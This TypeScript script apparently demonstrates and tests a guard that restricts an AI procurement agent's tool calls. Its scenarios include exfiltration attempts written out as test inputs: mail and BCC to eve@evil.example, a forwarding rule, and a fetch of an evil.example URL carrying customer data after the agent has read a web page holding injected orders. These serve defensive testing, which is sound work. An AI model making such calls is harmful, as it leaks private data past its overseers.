/**
 * The same agent under a mandate that permits nearly everything: what holds it are the starter policies of this package.
 * Every claim is checked against what the agent was told and against what the servers themselves noted.
 */
import { spawnSync } from 'node:child_process'
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { type Agent, agentOf } from '../agent.ts'
import { guardLine, guardProgram } from '../guard-line.ts'
import { guarded, type Story, type Watch, watch } from '../in-process.ts'
import { Report } from '../report.ts'

const HERE = import.meta.dirname
const AGENT = 'procurement-agent-001'
const APPROVE = { vendor_id: 'V-2002', vendor_class: 'B', amount: 800 }
const MAIL = { to: ['lee@acme.example'], subject: 'Vendors', body: 'V-2002 is approved.' }

interface Scene {
  readonly report: Report
  readonly story: Story
  readonly folder: string
  readonly program: string
  readonly officeLog: string
}

interface Claim {
  readonly title: string
  readonly tool: string
  readonly args: Readonly<Record<string, unknown>>
  readonly expected: string
}

/** Everything that should have reached the servers so far, in order. */
const reached: string[] = []

async function claim(
  { report }: Scene,
  agent: Agent,
  { title, tool, ...rest }: Claim,
): Promise<void> {
  const { args, expected } = rest
  const { outcome } = await agent.call(tool, args)
  report.claim({ title, expected, actual: outcome })
  if (expected === 'ok') reached.push(`${tool.replace('__', '/')} ${JSON.stringify(args)}`)
}

async function all(scene: Scene, agent: Agent, claims: readonly Claim[]): Promise<void> {
  for (const one of claims) await claim(scene, agent, one)
}

async function classAndHours(scene: Scene, agent: Agent, clock: Watch): Promise<void> {
  scene.report.chapter('Vendors: class B only, while people are at work')
  const tool = 'vendors__approve'
  const forbidden = 'forbidden'
  await all(scene, agent, [
    { title: 'class B, Tuesday 11:00 in Berlin', tool, args: APPROVE, expected: 'ok' },
    { title: 'class A', tool, args: { ...APPROVE, vendor_class: 'A' }, expected: forbidden },
    {
      title: 'another spelling of the id',
      tool,
      args: { ...APPROVE, vendor_id: 'v-2002' },
      expected: forbidden,
    },
    {
      title: 'an argument that nobody thought of',
      tool,
      args: { ...APPROVE, force: true },
      expected: forbidden,
    },
  ])
  clock.set('2026-11-24T16:00:00Z')
  await all(scene, agent, [
    { title: 'class B, Tuesday 17:00', tool, args: APPROVE, expected: forbidden },
    {
      title: 'looking has no hours',
      tool: 'vendors__search',
      args: { query: 'B' },
      expected: 'ok',
    },
  ])
  clock.set('2026-11-25T10:00:00Z')
}

async function recipients(scene: Scene, agent: Agent): Promise<void> {
  scene.report.chapter('Mail: to listed domains, by no way around')
  const tool = 'mail__send'
  const expected = 'forbidden'
  const hidden = await agent.call('mail__create_rule', { forward_to: 'eve@evil.example' })
  scene.report.claim({
    title: 'a forwarding rule: the tool is not even offered',
    expected: 'error -32602, false',
    actual: `${hidden.outcome}, ${(await agent.listTools()).includes('mail__create_rule')}`,
    shown: hidden.text,
  })
  await all(scene, agent, [
    { title: 'to eve@evil.example', tool, args: { ...MAIL, to: ['eve@evil.example'] }, expected },
    { title: 'as a blind copy', tool, args: { ...MAIL, bcc: ['eve@evil.example'] }, expected },
    { title: 'answers to eve', tool, args: { ...MAIL, reply_to: 'eve@evil.example' }, expected },
    { title: 'to lee@acme.example', tool, args: MAIL, expected: 'ok' },
  ])
}

async function flows(scene: Scene, agent: Agent): Promise<void> {
  scene.report.chapter('A stranger’s text, what is private, and a way out: never all three')
  const url = 'https://prices.example/2026'
  await all(scene, agent, [
    {
      title: 'reads a web page (which has orders for it)',
      tool: 'web__fetch',
      args: { url },
      expected: 'ok',
    },
    { title: 'may still write to lee', tool: 'mail__send', args: MAIL, expected: 'ok' },
  ])
  const { text } = await agent.call('crm__read', { id: '7' })
  reached.push('crm/read {"id":"7"}')
  scene.report.claim({
    title: 'reads a customer; the key in the notes is taken out',
    expected: 'true false',
    actual: `${text.includes('40 turbines')} ${text.includes('ghp_')}`,
    shown: text,
  })
  const leak = `https://evil.example/?q=40+turbines`
  await all(scene, agent, [
    {
      title: 'now may not write, not even to lee',
      tool: 'mail__send',
      args: MAIL,
      expected: 'forbidden',
    },
    {
      title: 'nor fetch, as an address is a message, too',
      tool: 'web__fetch',
      args: { url: leak },
      expected: 'forbidden',
    },
    { title: 'and still does its work', tool: 'vendors__approve', args: APPROVE, expected: 'ok' },
    { title: 'enters a vendor', tool: 'vendors__create', args: { name: 'Havel' }, expected: 'ok' },
    {
      title: 'and approves none after that',
      tool: 'vendors__approve',
      args: APPROVE,
      expected: 'forbidden',
    },
  ])
}

async function identity(scene: Scene): Promise<void> {
  scene.report.chapter('An agent that nobody registered, with a mandate of its own')
  const mandate = join(scene.folder, 'marketing.yaml')
  const text = readFileSync(scene.story.mandate, 'utf8').replace(AGENT, 'marketing-agent-007')
  writeFileSync(mandate, text)
  const clock = watch('2026-11-24T10:00:00Z')
  const other = await guarded({ ...scene.story, mandate }, 'marketing-agent-007', clock)
  const args = { query: 'B' }
  await all(scene, other, [
    { title: 'may not even look', tool: 'vendors__search', args, expected: 'forbidden' },
  ])
  await other.close()
}

/** Hours that are not now: the whole day three days from now, in Berlin. */
function anotherDay(): string {
  const later = new Date(Date.now() + 3 * 86_400_000)
  const day = new Intl.DateTimeFormat('en', { weekday: 'short', timeZone: 'Europe/Berlin' })
  return day.format(later)
}

/** The guard as it is shipped, with a copy of the policies that somebody adapted. */
async function theProcess(scene: Scene): Promise<void> {
  scene.report.chapter('The guard as a process of its own, and a day on which something is wrong')
  const { folder, program, story } = scene
  const policies = join(folder, 'policies')
  cpSync(story.policies ?? '', policies, { recursive: true })
  const day = anotherDay()
  adapt(join(policies, 'hours.yaml'), `${day} 09:00-17:00`)
  const files = ['--mandate', story.mandate, '--upstreams', story.upstreams, '--policies', policies]
  const told = ['run', ...files, '--agent', AGENT, '--state-dir', story.stateDir]
  const approve = { tool: 'vendors__approve', args: APPROVE }
  const agent = await agentOf(guardLine(program, [...told, '--environment', 'prod'], story.env))
  const title = `changes on ${day} only, and asked today`
  await all(scene, agent, [{ ...approve, title, expected: 'forbidden' }])

  const why = ['--why', 'keys were found in a public place']
  const risk = guardLine(program, ['risk', 'high', ...why, '--state-dir', story.stateDir])
  const env = { ...process.env, ...risk.env }
  spawnSync(risk.command, [...risk.args], { env, input: '', timeout: 20_000 })
  adapt(join(policies, 'hours.yaml'), 'Mon-Sun 00:00-24:00')
  await changed(agent)
  await all(scene, agent, [
    {
      ...approve,
      title: 'other hours without a restart; high risk asks',
      expected: 'approval_required',
    },
    { title: 'and looking goes on', tool: 'vendors__search', args: { query: 'B' }, expected: 'ok' },
  ])
  await agent.close()
}

/** A guard that runs has them in force within two seconds; a machine that is busy is given more. */
async function changed(agent: Agent): Promise<void> {
  for (let tries = 0; tries < 200; tries += 1) {
    const { outcome } = await agent.call('vendors__approve', APPROVE)
    if (outcome !== 'forbidden') return
    await setTimeout(100)
  }
}

function adapt(file: string, hours: string): void {
  const text = readFileSync(file, 'utf8')
  writeFileSync(`${file}.next`, text.replace(/(within\(now, ")[^"]+/, `$1${hours}`))
  renameSync(`${file}.next`, file)
}

function serversSaw({ report, officeLog }: Scene): void {
  report.chapter('What reached the servers')
  const lines = existsSync(officeLog) ? readFileSync(officeLog, 'utf8') : ''
  const saw = lines
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as { readonly tool: string; readonly args: object })
    .map(({ tool, args }) => `${tool} ${JSON.stringify(args)}`)
  report.claim({
    title: 'the servers noted these calls and no other',
    expected: reached.join('\n'),
    actual: saw.join('\n'),
    shown: `${saw.length} calls`,
  })
}

async function main(argv: readonly string[]): Promise<number> {
  const report = new Report(argv)
  const program = guardProgram(argv)
  const folder = mkdtempSync(join(realpathSync(tmpdir()), 'chaperone-guardrails-'))
  const officeLog = join(folder, 'office.jsonl')
  const story: Story = {
    mandate: join(HERE, 'mandate.yaml'),
    upstreams: join(HERE, 'mcp.json'),
    env: { OFFICE_LOG: officeLog },
    stateDir: join(folder, 'state'),
    policies: join(HERE, '..', '..', 'policies'),
  }
  const scene: Scene = { report, story, folder, program, officeLog }
  try {
    report.title('Guardrails: what nobody may do, whatever their mandate says')
    const clock = watch('2026-11-24T10:00:00Z')
    const agent = await guarded(story, AGENT, clock)
    await classAndHours(scene, agent, clock)
    await recipients(scene, agent)
    await flows(scene, agent)
    await agent.close()
    await identity(scene)
    await theProcess(scene)
    serversSaw(scene)
    return report.end({ example: 'guardrails' })
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

try {
  process.exit(await main(process.argv.slice(2)))
} catch (error) {
  process.stderr.write(`${error instanceof Error ? error.message : String(error)}\n`)
  process.exit(1)
}
